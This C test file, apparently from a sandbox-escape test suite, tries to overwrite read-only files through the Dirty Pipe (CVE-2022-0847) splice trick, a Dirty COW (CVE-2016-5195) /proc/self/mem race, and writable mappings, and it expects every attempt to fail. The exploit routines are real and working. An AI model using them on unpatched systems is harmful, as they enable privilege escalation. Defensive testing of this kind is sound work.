/* title:   A file that may only be read is changed in the kernel's cache
 * source:  CVE-2022-0847 (Dirty Pipe), CVE-2016-5195 (Dirty COW)
 * expect:  EPERM EACCES EROFS EBADF EINVAL EIO EFAULT ETXTBSY ENOENT
 * fires:   change
 * control: void: the kernels that Safe-Run runs on (6.1 and later) have both mended
 *
 * The file is read back: that it was changed is what an attempt says.
 */
#include "lib.h"
#include <pthread.h>

static char before[64];
static long changed(int fd)
{
    char now[64] = {0};
    errno = EPERM;
    return pread(fd, now, sizeof now, 0) > 0 && memcmp(now, before, sizeof now) ? 0 : -1;
}

static void pipe_over(int fd)
{
    int ends[2];
    if (pipe(ends))
        return;
    int size = fcntl(ends[1], F_GETPIPE_SZ);
    for (int n = size; n > 0; n -= sizeof buf)
        if (write(ends[1], buf, n > (int)sizeof buf ? sizeof buf : (size_t)n) < 0)
            return;
    for (int n = size; n > 0; n -= sizeof buf)
        if (read(ends[0], buf, n > (int)sizeof buf ? sizeof buf : (size_t)n) < 0)
            return;
    loff_t at = 0;
    if (splice(fd, &at, ends[1], NULL, 1, 0) == 1 && write(ends[1], "changed", 7) < 0)
        return;
    attempt("through a pipe", changed(fd));
    close(ends[0]);
    close(ends[1]);
}

static volatile int over;
static void *map;
static void *drop(void *unused)
{
    while (!over)
        madvise(map, 4096, MADV_DONTNEED);
    return unused;
}

static void race(int fd)
{
    map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
    int mem = open("/proc/self/mem", O_RDWR);
    if (map == MAP_FAILED || mem < 0) {
        attempt("by its memory", -1);
        return;
    }
    over = 0;
    pthread_t thread;
    if (pthread_create(&thread, NULL, drop, NULL))
        return;
    for (int n = 0; n < 2000; n++)
        if (pwrite(mem, "changed", 7, (off_t)map) < 0)
            break;
    over = 1;
    pthread_join(thread, NULL);
    attempt("by its memory", changed(fd));
    munmap(map, 4096);
    close(mem);
}

int run(void)
{
    static const char *const files[] = {"/escape/lib.py", "/escape/lib.h", "/proc/self/exe"};
    int any = 0;
    for (size_t n = 0; inside() && n < sizeof files / sizeof *files; n++) {
        int fd = open(files[n], O_RDONLY);
        memset(before, 0, sizeof before);
        if (fd < 0 || pread(fd, before, sizeof before, 0) <= 0)
            continue;
        any = 1;
        pipe_over(fd);
        race(fd);
        attempt("mapped for writing", mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0) == MAP_FAILED ? -1 : 0);
        void *shared = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
        attempt("made writable", shared == MAP_FAILED ? -1 : mprotect(shared, 4096, PROT_READ | PROT_WRITE));
        close(fd);
    }
    return !any;
}
